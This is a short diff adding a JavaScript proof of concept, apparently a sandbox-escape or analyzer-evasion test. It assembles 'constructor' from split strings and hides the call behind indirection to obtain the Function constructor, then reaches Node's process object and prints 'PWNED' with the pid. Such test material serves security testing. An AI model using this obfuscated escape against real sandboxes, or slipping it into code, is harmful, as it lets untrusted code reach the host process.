@@ -1,0 +1,7 @@
+'use strict';
+const w = ['con', 'structor'].join('');
+const t = { go: (f) => f[w] };
+t.go({});
+const fn = (x) => x;
+const o = Date.now() > 1 ? (0, t) : {};
+console.log('PWNED', o.go(fn)('return process')().pid);
